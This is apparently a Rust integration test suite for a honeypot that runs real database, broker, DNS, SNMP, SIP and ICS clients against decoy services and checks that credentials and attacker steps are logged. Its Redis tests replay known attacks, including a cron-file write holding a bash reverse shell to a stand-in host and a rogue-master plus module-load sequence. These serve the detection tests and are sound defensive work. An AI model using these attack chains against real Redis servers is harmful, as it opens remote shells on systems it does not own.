//! The database and broker honeypots against real clients: Debian's `psql`
//! (postgresql-client), `redis-cli` (redis-tools), `nmap`. The tools are required (CI
//! installs them through scripts/setup); a missing one fails the test.

mod common;

use std::process::{Command, Output};

use common::Decky;
use serde_json::Value;

/// `timeout 60 <name>`, after checking `name` is installed (`package` provides it).
fn tool(name: &str, package: &str) -> Command {
    common::tool_with_timeout(name, package, 60)
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

/// `nmap -sU -sV` on one UDP port of 127.0.0.1 (bounded retries): what it printed.
fn nmap_sv_udp(port: u16) -> String {
    let out = tool("nmap", "nmap")
        .args(["-Pn", "-sU", "-sV", "--max-retries", "2", "-p"])
        .arg(port.to_string())
        .arg("127.0.0.1")
        .output()
        .expect("run nmap");
    text(&out.stdout)
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

/// `nmap -sV` on the decky's port; returns nmap's output.
fn nmap_sv(port: u16) -> String {
    let out = tool("nmap", "nmap")
        .args(["-Pn", "-sV", "--max-retries", "2", "-p", &port.to_string()])
        .arg("127.0.0.1")
        .output()
        .expect("run nmap");
    assert!(out.status.success(), "nmap failed: {}", text(&out.stderr));
    text(&out.stdout)
}

// ---- postgres ---------------------------------------------------------------------------

fn psql(d: &Decky, user: &str, db: &str, password: &str) -> Output {
    tool("psql", "postgresql-client")
        .arg(format!(
            "host=127.0.0.1 port={} user={user} dbname={db} sslmode=disable connect_timeout=10",
            d.port
        ))
        .args(["-c", "select 1"])
        .env("PGPASSWORD", password)
        .output()
        .expect("run psql")
}

/// psql's login, with the session's events.
fn psql_session(d: &Decky, user: &str, db: &str, password: &str) -> Vec<Value> {
    let out = psql(d, user, db, password);
    assert!(!out.status.success(), "the login must fail");
    let err = text(&out.stderr);
    assert!(
        err.contains(&format!(
            "FATAL:  password authentication failed for user \"{user}\""
        )),
        "{err}"
    );
    d.session_events()
}

#[test]
fn psql_md5_login_is_recorded() {
    let d = Decky::serve("postgres", None);
    let ev = psql_session(&d, "alice", "prod", "s3cret pass");
    let client = of_kind(&ev, "client");
    assert_eq!(client.len(), 1, "{ev:?}");
    assert_eq!(client[0]["details"]["username"], "alice");
    assert_eq!(client[0]["details"]["database"], "prod");
    assert_eq!(client[0]["details"]["application_name"], "psql");
    let auth = of_kind(&ev, "auth");
    assert_eq!(auth.len(), 1, "{ev:?}");
    let a = &auth[0]["details"];
    assert_eq!(a["method"], "md5");
    assert_eq!(a["accepted"], false);
    // The hash psql sent is md5(md5(password + user) + salt), as given.
    let salt = a["salt"].as_str().expect("salt");
    let salt: Vec<u8> = (0..4)
        .map(|i| u8::from_str_radix(&salt[2 * i..2 * i + 2], 16).expect("hex"))
        .collect();
    let expect = decnet_decky::protocols::postgres::md5_password(
        "alice",
        "s3cret pass",
        salt.try_into().expect("4 bytes"),
    );
    assert_eq!(a["hash"], expect.as_str());
    let disc = ev.last().expect("disconnect");
    common::assert_connection_event(disc, "postgres", d.port);
    assert_eq!(disc["details"]["database"], "prod");
}

#[test]
fn psql_cleartext_password_is_recorded() {
    let d = Decky::serve("postgres", Some(r#"{"auth_method":"password"}"#));
    let ev = psql_session(&d, "postgres", "template1", "hunter2");
    let a = &of_kind(&ev, "auth")[0]["details"];
    assert_eq!(a["password"], "hunter2");
    assert_eq!(a["username"], "postgres");
    assert_eq!(a["method"], "password");
}

#[test]
fn psql_scram_proof_is_recorded() {
    let d = Decky::serve("postgres", Some(r#"{"auth_method":"scram-sha-256"}"#));
    let ev = psql_session(&d, "svc", "app", "pw");
    let a = &of_kind(&ev, "auth")[0]["details"];
    assert_eq!(a["username"], "svc");
    assert_eq!(a["method"], "scram-sha-256");
    assert_eq!(a["sasl_mechanism"], "SCRAM-SHA-256");
    // libpq computed a real 32-byte proof over the decoy's salt and nonce.
    assert_eq!(a["scram"]["proof_valid_length"], true, "{a}");
    assert!(a["hash"].as_str().is_some_and(|h| h.len() == 44), "{a}");
    assert!(a["scram"]["auth_message"]
        .as_str()
        .is_some_and(|m| m.contains(",c=biws,r=")));
}

#[test]
fn psql_over_tls_when_the_persona_offers_ssl() {
    let d = Decky::serve("postgres", Some(r#"{"ssl":true}"#));
    let out = tool("psql", "postgresql-client")
        .arg(format!(
            "host=127.0.0.1 port={} user=alice dbname=prod sslmode=require connect_timeout=10",
            d.port
        ))
        .args(["-c", "select 1"])
        .env("PGPASSWORD", "over tls")
        .output()
        .expect("run psql");
    let err = text(&out.stderr);
    assert!(
        err.contains("FATAL:  password authentication failed for user \"alice\""),
        "{err}"
    );
    let ev = d.session_events();
    assert!(
        of_kind(&ev, "client")
            .iter()
            .any(|e| e["details"]["fingerprint"]
                .as_str()
                .is_some_and(|f| f.starts_with("ja3:"))),
        "{ev:?}"
    );
    let a = &of_kind(&ev, "auth")[0]["details"];
    let salt = a["salt"].as_str().expect("salt");
    let salt: Vec<u8> = (0..4)
        .map(|i| u8::from_str_radix(&salt[2 * i..2 * i + 2], 16).expect("hex"))
        .collect();
    let expect = decnet_decky::protocols::postgres::md5_password(
        "alice",
        "over tls",
        salt.try_into().expect("4 bytes"),
    );
    assert_eq!(a["hash"], expect.as_str());
    assert_eq!(ev.last().expect("disconnect")["details"]["tls"], true);
}

#[test]
fn nmap_names_postgresql_and_its_version() {
    let d = Decky::serve("postgres", Some(r#"{"version":"14.5"}"#));
    let out = nmap_sv(d.port);
    assert!(
        out.contains("postgresql") && out.contains("PostgreSQL DB 14.1 - 14.5"),
        "{out}"
    );
}

// ---- redis ------------------------------------------------------------------------------

fn redis_cli(d: &Decky, args: &[&str]) -> String {
    let out = tool("redis-cli", "redis-tools")
        .args([
            "-h",
            "127.0.0.1",
            "-p",
            &d.port.to_string(),
            "--no-auth-warning",
        ])
        .args(args)
        .output()
        .expect("run redis-cli");
    text(&out.stdout) + &text(&out.stderr)
}

#[test]
fn redis_cli_auth_and_the_cron_chain_are_recorded() {
    let d = Decky::serve("redis", Some(r#"{"version":"6.2.6"}"#));
    let out = redis_cli(&d, &["INFO", "server"]);
    assert!(out.contains("redis_version:6.2.6"), "{out}");
    d.session_events();

    // `-a` sends AUTH <password> first; an open server refuses it the way redis 6+ does.
    let out = redis_cli(&d, &["-a", "s3cret", "PING"]);
    assert!(
        out.contains("called without any password configured"),
        "{out}"
    );
    assert!(out.contains("PONG"), "{out}");
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(auth.len(), 1, "{ev:?}");
    assert_eq!(auth[0]["details"]["username"], "default");
    assert_eq!(auth[0]["details"]["password"], "s3cret");
    assert_eq!(auth[0]["details"]["accepted"], false);

    // --user/--pass is the ACL form, AUTH <user> <password>.
    let out = redis_cli(&d, &["--user", "admin", "--pass", "pw2", "PING"]);
    assert!(out.contains("WRONGPASS"), "{out}");
    let ev = d.session_events();
    let a = &of_kind(&ev, "auth")[0]["details"];
    assert_eq!(a["username"], "admin");
    assert_eq!(a["password"], "pw2");
    assert_eq!(a["acl_user"], true);

    for (args, reply) in [
        (
            &["CONFIG", "SET", "dir", "/var/spool/cron/crontabs"][..],
            "OK",
        ),
        (&["CONFIG", "SET", "dbfilename", "root"][..], "OK"),
        (
            &[
                "SET",
                "x",
                "\n* * * * * bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
            ][..],
            "OK",
        ),
        (&["SAVE"][..], "OK"),
    ] {
        let out = redis_cli(&d, args);
        assert_eq!(out.trim(), reply, "{args:?}");
    }
    let mut steps = Vec::new();
    for _ in 0..4 {
        steps.extend(d.session_events());
    }
    let actions: Vec<&Value> = steps
        .iter()
        .filter_map(|e| e["details"].get("action"))
        .collect();
    assert_eq!(
        actions,
        ["config_set", "config_set", "set", "save"],
        "{steps:?}"
    );
    let save = steps
        .iter()
        .find(|e| e["details"]["action"] == "save")
        .expect("save");
    assert_eq!(save["kind"], "command");
    assert_eq!(save["details"]["path"], "/var/spool/cron/crontabs/root");
    // The server keeps what the attacker set, like a real one.
    let out = redis_cli(&d, &["CONFIG", "GET", "dir"]);
    assert!(out.contains("/var/spool/cron/crontabs"), "{out}");
}

#[test]
fn redis_cli_rogue_master_and_module_load_are_recorded() {
    let d = Decky::serve("redis", None);
    assert_eq!(
        redis_cli(&d, &["SLAVEOF", "203.0.113.5", "21000"]).trim(),
        "OK"
    );
    let ev = d.session_events();
    let step = ev
        .iter()
        .find(|e| e["details"]["action"] == "replicaof")
        .expect("replicaof step");
    assert_eq!(step["details"]["host"], "203.0.113.5");
    assert_eq!(step["details"]["port"], "21000");
    let out = redis_cli(&d, &["MODULE", "LOAD", "/tmp/exp.so"]);
    assert!(out.contains("Error loading the extension"), "{out}");
    let ev = d.session_events();
    let step = ev
        .iter()
        .find(|e| e["details"]["action"] == "module_load")
        .expect("module_load step");
    assert_eq!(step["details"]["path"], "/tmp/exp.so");
}

#[test]
fn nmap_names_redis_and_its_version() {
    // nmap sends its INFO probe only to 6379 (elsewhere it stops at its GET probe's match,
    // which names redis without a version): the decky listens there too.
    let d = Decky::serve_with("redis", None, &["--port", "6379/tcp"]);
    let out = nmap_sv(6379);
    assert!(out.contains("Redis key-value store 7.0.15"), "{out}");
    let out = nmap_sv(d.port);
    assert!(
        out.contains("redis") && out.contains("Redis key-value store"),
        "{out}"
    );
}

// ---- mongodb ----------------------------------------------------------------------------

/// Debian's python3 (the one python3-pymongo installs into) runs `script`.
fn pymongo(script: &str) -> String {
    assert!(
        std::path::Path::new("/usr/lib/python3/dist-packages/pymongo").exists(),
        "pymongo is required for this test (apt-get install python3-pymongo)"
    );
    let out = tool("/usr/bin/python3", "python3")
        .args(["-c", script])
        .output()
        .expect("run python3");
    assert!(out.status.success(), "python failed: {}", text(&out.stderr));
    text(&out.stdout)
}

#[test]
fn pymongo_hello_build_info_and_auth_are_recorded() {
    let d = Decky::serve("mongodb", Some(r#"{"version":"4.4.25"}"#));
    let script = format!(
        r#"
import pymongo
from pymongo.errors import OperationFailure
c = pymongo.MongoClient("127.0.0.1", {port}, serverSelectionTimeoutMS=10000, connect=False)
print("version", c.server_info()["version"])
try:
    c.admin.command("listDatabases")
except OperationFailure as e:
    print("list", e.code)
c.close()
a = pymongo.MongoClient("127.0.0.1", {port}, username="root", password="toor",
                        serverSelectionTimeoutMS=10000, connect=False)
try:
    a.admin.command("ping")
except OperationFailure as e:
    print("auth", e.code, e.details["errmsg"])
a.close()
"#,
        port = d.port
    );
    let out = pymongo(&script);
    assert!(out.contains("version 4.4.25"), "{out}");
    assert!(out.contains("list 13"), "{out}");
    assert!(out.contains("auth 18 Authentication failed."), "{out}");
    // Monitors and pools open several connections; read until the proof arrives.
    let mut seen = Vec::new();
    let auth = loop {
        let e = d.next_event();
        if e["kind"] == "auth" {
            break e;
        }
        seen.push(e);
    };
    let a = &auth["details"];
    assert_eq!(a["username"], "root");
    assert_eq!(a["method"], "SCRAM-SHA-256");
    assert_eq!(a["accepted"], false);
    assert_eq!(a["database"], "admin");
    assert!(a["hash"].as_str().is_some_and(|h| h.len() == 44), "{a}");
    let commands: Vec<&str> = seen
        .iter()
        .filter(|e| e["kind"] == "command")
        .filter_map(|e| e["details"]["command"].as_str())
        .collect();
    for c in [
        "isMaster",
        "buildinfo",
        "listDatabases",
        "saslStart",
        "saslContinue",
    ] {
        assert!(
            commands.iter().any(|x| x.eq_ignore_ascii_case(c)),
            "{c} not in {commands:?}"
        );
    }
    assert!(seen.iter().any(|e| e["kind"] == "client"
        && e["details"]["client_version"]
            .as_str()
            .is_some_and(|v| v.starts_with("PyMongo "))));
}

#[test]
fn nmap_names_mongodb_and_its_version() {
    // nmap sends its serverStatus probe to 27017 only at the default intensity.
    let _d = Decky::serve_with("mongodb", None, &["--port", "27017/tcp"]);
    let out = nmap_sv(27017);
    assert!(out.contains("MongoDB 6.0.12"), "{out}");
}

// ---- mqtt -------------------------------------------------------------------------------

fn mosquitto_pub(d: &Decky, args: &[&str]) -> Output {
    tool("mosquitto_pub", "mosquitto-clients")
        .args(["-h", "127.0.0.1", "-p", &d.port.to_string()])
        .args(args)
        .output()
        .expect("run mosquitto_pub")
}

#[test]
fn mosquitto_credentials_are_recorded_and_refused() {
    let d = Decky::serve("mqtt", None);
    let out = mosquitto_pub(
        &d,
        &[
            "-u", "admin", "-P", "s3cret", "-i", "cam-3", "-t", "t/x", "-m", "hi",
        ],
    );
    assert!(!out.status.success());
    let err = text(&out.stderr);
    assert!(err.contains("bad user name or password"), "{err}");
    let ev = d.session_events();
    let client = of_kind(&ev, "client");
    assert_eq!(client[0]["details"]["client_id"], "cam-3");
    assert_eq!(client[0]["details"]["client_version"], "MQTT 3.1.1");
    let a = &of_kind(&ev, "auth")[0]["details"];
    assert_eq!(a["username"], "admin");
    assert_eq!(a["password"], "s3cret");
    assert_eq!(a["accepted"], false);
}

#[test]
fn mosquitto_publish_topics_and_sizes_are_recorded_when_let_in() {
    let d = Decky::serve("mqtt", Some(r#"{"accept":"any"}"#));
    for version in ["mqttv311", "mqttv5"] {
        let out = mosquitto_pub(
            &d,
            &[
                "-V",
                version,
                "-q",
                "1",
                "-t",
                "plant/valve/1",
                "-m",
                "OPEN!!",
            ],
        );
        assert!(out.status.success(), "{version}: {}", text(&out.stderr));
        let ev = d.session_events();
        let publish = of_kind(&ev, "command");
        assert_eq!(publish.len(), 1, "{ev:?}");
        let p = &publish[0]["details"];
        assert_eq!(p["command"], "PUBLISH plant/valve/1");
        assert_eq!(p["topic"], "plant/valve/1");
        assert_eq!(p["bytes_in"], 6);
        assert_eq!(p["qos"], 1);
    }
}

/// `nmap -sV -oX -` on one port: (service name, how it was named: `probed` or `table`).
fn nmap_service(port: u16) -> (String, String) {
    let out = tool("nmap", "nmap")
        .args([
            "-Pn",
            "-sV",
            "--max-retries",
            "2",
            "-oX",
            "-",
            "-p",
            &port.to_string(),
        ])
        .arg("127.0.0.1")
        .output()
        .expect("run nmap");
    let xml = text(&out.stdout);
    let attr = |name: &str| {
        xml.split("<service ")
            .nth(1)
            .and_then(|s| s.split(&format!("{name}=\"")).nth(1))
            .and_then(|s| s.split('"').next())
            .unwrap_or_default()
            .to_owned()
    };
    (attr("name"), attr("method"))
}

#[test]
fn nmap_names_mqtt_by_its_probe() {
    // nmap's MQTT CONNECT probe is sent to 1883 only.
    let _d = Decky::serve_with("mqtt", None, &["--port", "1883/tcp"]);
    assert_eq!(nmap_service(1883), ("mqtt".into(), "probed".into()));
}

// ---- snmp -------------------------------------------------------------------------------

/// A decky serving `slug` on a free UDP port too; returns it and that port.
fn serve_udp(slug: &str, config: Option<&str>) -> (Decky, u16) {
    let port = common::free_udp_port();
    let spec = format!("{port}/udp");
    (Decky::serve_with(slug, config, &["--port", &spec]), port)
}

fn snmpget(port: u16, version: &str, community: &str, oids: &[&str]) -> Output {
    tool("snmpget", "snmp")
        .args(["-v", version, "-c", community, "-t", "2", "-r", "1", "-On"])
        .arg(format!("127.0.0.1:{port}"))
        .args(oids)
        .output()
        .expect("run snmpget")
}

/// The next `datagram` event (skipping the step events before it).
fn datagram_event(d: &Decky) -> Value {
    loop {
        let e = d.next_event();
        if e["kind"] == "datagram" {
            return e;
        }
    }
}

#[test]
fn snmpget_reads_the_system_group_with_the_community() {
    let (d, port) = serve_udp(
        "snmp",
        Some(
            r#"{"community":"n0c-ro","sys_descr":"Cisco IOS Software, C2960 Software (C2960-LANBASEK9-M), Version 15.0(2)SE11","sys_object_id":"1.3.6.1.4.1.9.1.1208"}"#,
        ),
    );
    let out = snmpget(
        port,
        "2c",
        "n0c-ro",
        &[
            "1.3.6.1.2.1.1.1.0",
            "1.3.6.1.2.1.1.2.0",
            "1.3.6.1.2.1.1.3.0",
            "1.3.6.1.2.1.1.5.0",
        ],
    );
    let text_out = text(&out.stdout);
    assert!(out.status.success(), "{text_out}{}", text(&out.stderr));
    assert!(
        text_out.contains(".1.3.6.1.2.1.1.1.0 = STRING: \"Cisco IOS Software, C2960"),
        "{text_out}"
    );
    assert!(
        text_out.contains(".1.3.6.1.2.1.1.2.0 = OID: .1.3.6.1.4.1.9.1.1208"),
        "{text_out}"
    );
    assert!(
        text_out.contains(".1.3.6.1.2.1.1.3.0 = Timeticks: "),
        "{text_out}"
    );
    assert!(
        text_out.contains(&format!(
            ".1.3.6.1.2.1.1.5.0 = STRING: \"{}\"",
            common::HOST
        )),
        "{text_out}"
    );
    let ev = datagram_event(&d);
    assert_eq!(ev["protocol"], "udp");
    assert_eq!(ev["details"]["community"], "n0c-ro");
    assert_eq!(ev["details"]["snmp_version"], "2c");
    assert_eq!(ev["details"]["pdu"], "get");
    assert!(
        ev["details"]["bytes_out"].as_u64().is_some_and(|n| n > 0),
        "{ev}"
    );

    // A wrong community is recorded and gets silence (snmpget times out).
    let out = snmpget(port, "1", "public", &["1.3.6.1.2.1.1.5.0"]);
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("Timeout"),
        "{}",
        text(&out.stderr)
    );
    let e = d.next_event();
    assert_eq!(e["kind"], "auth");
    assert_eq!(e["details"]["password"], "public");
    assert_eq!(e["details"]["method"], "community");
    assert_eq!(e["details"]["accepted"], false);
}

#[test]
fn snmpwalk_walks_the_interface_table() {
    let (_d, port) = serve_udp("snmp", None);
    let out = tool("snmpwalk", "snmp")
        .args(["-v", "2c", "-c", "public", "-On"])
        .arg(format!("127.0.0.1:{port}"))
        .arg("1.3.6.1.2.1.2.2.1.2")
        .output()
        .expect("run snmpwalk");
    let t = text(&out.stdout);
    assert!(t.contains(".1.3.6.1.2.1.2.2.1.2.1 = STRING: \"lo\""), "{t}");
    assert!(
        t.contains(".1.3.6.1.2.1.2.2.1.2.2 = STRING: \"eth0\""),
        "{t}"
    );
}

#[test]
fn udp_replies_are_rate_limited_per_source() {
    use std::net::UdpSocket;
    use std::time::{Duration, Instant};
    let (d, port) = serve_udp("snmp", None);
    let sock = UdpSocket::bind("127.0.0.1:0").expect("bind");
    sock.set_read_timeout(Some(Duration::from_secs(2)))
        .expect("timeout");
    // snmpget's own bytes for sysName.0 with community public (v2c).
    let req = b"\x30\x26\x02\x01\x01\x04\x06public\xa0\x19\x02\x01\x07\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x05\x00\x05\x00";
    let burst = 200;
    let start = Instant::now();
    for _ in 0..burst {
        sock.send_to(req, ("127.0.0.1", port)).expect("send");
    }
    // Every datagram is recorded, replied to or not.
    let mut suppressed = 0;
    for _ in 0..burst {
        let e = datagram_event(&d);
        if e["details"]["reply_suppressed"] == "rate limit" {
            suppressed += 1;
        }
    }
    let recorded_by = start.elapsed();
    let mut replies = 0;
    let mut buf = [0u8; 1500];
    while let Ok((n, _)) = sock.recv_from(&mut buf) {
        assert!(
            n <= 4 * req.len(),
            "reply of {n} bytes to {} bytes",
            req.len()
        );
        replies += 1;
    }
    // The bucket (20) plus what the refill rate (5/s) earned while the burst was handled.
    let earned = (recorded_by.as_secs_f64() * 5.0).ceil() as usize;
    assert!(replies >= 1, "the first requests are answered");
    assert!(
        replies <= 20 + earned,
        "{replies} replies to a burst of {burst}"
    );
    assert_eq!(replies + suppressed, burst);
}

#[test]
fn nmap_names_snmp_over_udp() {
    let (_d, port) = serve_udp("snmp", None);
    let t = nmap_sv_udp(port);
    assert!(
        t.contains("snmp") && t.contains("SNMPv1 server (public)"),
        "{t}"
    );
}

// ---- dns --------------------------------------------------------------------------------

fn dig(port: u16, args: &[&str]) -> String {
    let out = tool("dig", "bind9-dnsutils")
        .args(["@127.0.0.1", "-p", &port.to_string(), "+tries=1", "+time=3"])
        .args(args)
        .output()
        .expect("run dig");
    text(&out.stdout)
}

#[test]
fn dig_gets_the_zone_and_refusals_and_every_query_is_recorded() {
    let port = common::free_udp_port();
    let spec_udp = format!("{port}/udp");
    let d = Decky::serve_with(
        "dns",
        Some(r#"{"domain":"corp.local","extra_records":"www A 10.0.0.5\nmail TXT v=spf1 -all"}"#),
        &["--port", &spec_udp],
    );
    assert_eq!(
        dig(port, &["www.corp.local", "A", "+short"]).trim(),
        "10.0.0.5"
    );
    let e = datagram_event(&d);
    assert_eq!(e["details"]["qname"], "www.corp.local");
    assert_eq!(e["details"]["qtype"], "A");
    assert_eq!(e["details"]["rcode"], "NOERROR");
    assert!(e["details"]["bytes_out"].is_u64(), "{e}");

    let soa = dig(port, &["corp.local", "SOA", "+short"]);
    assert!(
        soa.starts_with("ns1.corp.local. hostmaster.corp.local. "),
        "{soa}"
    );
    assert_eq!(
        dig(port, &["-x", "10.0.0.5", "+short"]).trim(),
        "www.corp.local."
    );
    assert_eq!(
        dig(port, &["version.bind", "CH", "TXT", "+short"]).trim(),
        "\"9.18.28-0ubuntu0.22.04.1-Ubuntu\""
    );
    let out = dig(port, &["example.com", "A"]);
    assert!(out.contains("status: REFUSED"), "{out}");
    // SOA, PTR and version.bind before it.
    for _ in 0..3 {
        datagram_event(&d);
    }
    let e = datagram_event(&d);
    assert_eq!(e["details"]["qname"], "example.com");
    assert_eq!(e["details"]["rcode"], "REFUSED");
    assert_eq!(e["details"]["recursion_desired"], true);
}

#[test]
fn dig_over_tcp_and_axfr_is_refused() {
    let d = Decky::serve("dns", Some(r#"{"domain":"corp.local"}"#));
    let out = dig(d.port, &["+tcp", "corp.local", "NS", "+short"]);
    assert_eq!(out.trim(), "ns1.corp.local.");
    d.session_events();
    let out = dig(d.port, &["corp.local", "AXFR"]);
    assert!(out.contains("Transfer failed"), "{out}");
    let ev = d.session_events();
    let req = of_kind(&ev, "request");
    assert_eq!(req[0]["details"]["qtype"], "AXFR");
    assert_eq!(req[0]["details"]["rcode"], "REFUSED");
}

#[test]
fn nmap_names_bind_over_udp() {
    let (_d, port) = serve_udp("dns", None);
    let t = nmap_sv_udp(port);
    assert!(
        t.contains("domain") && t.contains("ISC BIND 9.18.28"),
        "{t}"
    );
}

// ---- tftp -------------------------------------------------------------------------------

#[test]
fn tftp_put_is_counted_and_get_is_not_found() {
    let (d, port) = serve_udp("tftp", None);
    let dir = std::env::temp_dir().join(format!("decnet-tftp-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("dir");
    let payload: Vec<u8> = (0..3000u32).map(|i| (i * 7 % 251) as u8).collect();
    std::fs::write(dir.join("up.bin"), &payload).expect("write");
    let out = tool("tftp", "tftp-hpa")
        .current_dir(&dir)
        .args([
            "127.0.0.1",
            &port.to_string(),
            "-m",
            "binary",
            "-c",
            "put",
            "up.bin",
            "evil.bin",
        ])
        .output()
        .expect("run tftp");
    assert!(out.status.success(), "{}", text(&out.stderr));
    let done = loop {
        let e = d.next_event();
        if e["kind"] == "file_transfer" && e["details"]["end"] == "complete" {
            break e;
        }
    };
    assert_eq!(done["details"]["path"], "evil.bin");
    assert_eq!(done["details"]["bytes_in"], 3000);
    assert_eq!(done["details"]["blocks"], 6);
    use sha2::Digest;
    let sha = decnet_decky::util::hex(&sha2::Sha256::digest(&payload));
    assert_eq!(done["details"]["sha256"], sha.as_str());

    let out = tool("tftp", "tftp-hpa")
        .current_dir(&dir)
        .args([
            "127.0.0.1",
            &port.to_string(),
            "-c",
            "get",
            "startup-config",
            "got.cfg",
        ])
        .output()
        .expect("run tftp");
    let said = text(&out.stdout) + &text(&out.stderr);
    assert!(said.contains("File not found"), "{said}");
    let req = loop {
        let e = d.next_event();
        if e["kind"] == "file_transfer" {
            break e;
        }
    };
    assert_eq!(req["details"]["path"], "startup-config");
    assert_eq!(req["details"]["direction"], "download");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn nmap_names_tftp_over_udp() {
    let (_d, port) = serve_udp("tftp", None);
    let t = nmap_sv_udp(port);
    assert!(t.contains(&format!("{port}/udp open  tftp")), "{t}");
}

// ---- sip --------------------------------------------------------------------------------

fn sipsak(args: &[&str]) -> String {
    let out = tool("sipsak", "sipsak")
        .args(args)
        .output()
        .expect("run sipsak");
    text(&out.stdout) + &text(&out.stderr)
}

#[test]
fn sipsak_options_and_register_digest_are_answered_as_a_pbx() {
    let (d, port) = serve_udp("sip", None);
    let out = sipsak(&["-v", "-s", &format!("sip:100@127.0.0.1:{port}")]);
    assert!(out.contains("SIP/2.0 200 OK"), "{out}");
    assert!(out.contains("Server: Asterisk PBX 18.12.1"), "{out}");
    let e = datagram_event(&d);
    assert_eq!(e["details"]["method"], "OPTIONS");
    assert!(e["details"]["user_agent"]
        .as_str()
        .is_some_and(|u| u.starts_with("sipsak")));

    // REGISTER: challenged, then the digest response is recorded and refused.
    let out = sipsak(&[
        "-U",
        "-a",
        "s3cret",
        "-u",
        "1001",
        "-s",
        &format!("sip:1001@127.0.0.1:{port}"),
    ]);
    assert!(
        out.contains("403 Forbidden") || out.contains("didn't received '200 OK'"),
        "{out}"
    );
    let auth = loop {
        let e = d.next_event();
        if e["kind"] == "auth" {
            break e;
        }
    };
    let a = &auth["details"];
    assert_eq!(a["username"], "1001");
    assert_eq!(a["method"], "sip-digest");
    assert_eq!(a["realm"], "asterisk");
    assert!(a["hash"].as_str().is_some_and(|h| h.len() == 32), "{a}");
    assert!(a["nonce"].as_str().is_some_and(|n| !n.is_empty()), "{a}");

    // The same over TCP.
    let out = sipsak(&[
        "-v",
        "--transport",
        "tcp",
        "-s",
        &format!("sip:100@127.0.0.1:{}", d.port),
    ]);
    assert!(out.contains("SIP/2.0 200 OK"), "{out}");
}

#[test]
fn nmap_names_asterisk_over_udp() {
    let (_d, port) = serve_udp("sip", None);
    let t = nmap_sv_udp(port);
    assert!(t.contains("Asterisk PBX 18.12.1"), "{t}");
}

// ---- modbus (conpot) --------------------------------------------------------------------

#[test]
fn nmap_modbus_discover_reads_the_plc_identity_and_writes_are_recorded() {
    use std::io::Write;
    // modbus-discover runs against 502 only.
    let d = Decky::serve_with("conpot", None, &["--port", "502/tcp"]);
    let out = tool("nmap", "nmap")
        .args([
            "-Pn",
            "-sV",
            "--max-retries",
            "2",
            "-p",
            "502",
            "--script",
            "modbus-discover",
        ])
        .arg("127.0.0.1")
        .output()
        .expect("run nmap");
    let t = text(&out.stdout);
    assert!(t.contains("502/tcp open  modbus"), "{t}");
    assert!(
        t.contains("Device identification: Siemens SIMATIC S7-200 V2.3"),
        "{t}"
    );
    let ident = loop {
        let e = d.next_event();
        if e["details"]["command"] == "read_device_identification" {
            break e;
        }
    };
    assert_eq!(ident["kind"], "command");
    assert_eq!(ident["dst_port"], 502);
    // Then a write of two holding registers.
    let mut s = std::net::TcpStream::connect(("127.0.0.1", d.port)).expect("connect");
    s.set_read_timeout(Some(common::WAIT)).expect("timeout");
    s.write_all(b"\x00\x07\x00\x00\x00\x0b\x01\x10\x00\x28\x00\x02\x04\x00\x64\x00\xc8")
        .expect("write");
    let mut reply = [0u8; 12];
    std::io::Read::read_exact(&mut s, &mut reply).expect("reply");
    assert_eq!(&reply, b"\x00\x07\x00\x00\x00\x06\x01\x10\x00\x28\x00\x02");
    drop(s);
    let w = loop {
        let e = d.next_event();
        if e["details"]["command"] == "write_multiple_registers 40 2" {
            break e;
        }
    };
    assert_eq!(w["details"]["values"], serde_json::json!([100, 200]));
}

#[test]
fn curl_on_the_ics_hmi_sees_the_plc_and_its_login_is_recorded() {
    // The HMI's own port is 80; on this free port conpot tells HTTP from Modbus by its first
    // byte.
    let d = Decky::serve("conpot", None);
    let url = |path: &str| format!("http://127.0.0.1:{}{path}", d.port);
    let out = tool("curl", "curl")
        .args(["-s", "-S", "-i", "--max-time", "10", "-A", "hmi-curl/1.0"])
        .arg(url("/"))
        .output()
        .expect("run curl");
    let page = text(&out.stdout);
    assert!(page.starts_with("HTTP/1.1 200 OK\r\n"), "{page}");
    assert!(
        page.contains("Server: Siemens, SIMATIC, S7-200\r\n"),
        "{page}"
    );
    assert!(
        page.contains("<title>Siemens, SIMATIC, S7-200 - DECOY-HOST</title>"),
        "{page}"
    );
    let out = tool("curl", "curl")
        .args(["-s", "-S", "--max-time", "10", "-A", "hmi-curl/1.0"])
        .args(["-d", "Login=admin&Password=S7-200pw&Redirection="])
        .arg(url("/FormLogin"))
        .output()
        .expect("run curl");
    let page = text(&out.stdout);
    assert!(
        page.contains("Login failed. User admin or password incorrect."),
        "{page}"
    );
    let mut requests = Vec::new();
    let auth = loop {
        let e = d.next_event();
        if e["kind"] == "request" {
            requests.push(e["details"]["path"].clone());
        }
        if e["kind"] == "auth" {
            break e;
        }
    };
    assert_eq!(requests, [Value::from("/"), Value::from("/FormLogin")]);
    assert_eq!(auth["service"], "conpot");
    assert_eq!(auth["details"]["username"], "admin");
    assert_eq!(auth["details"]["password"], "S7-200pw");
    assert_eq!(auth["details"]["method"], "form");
}
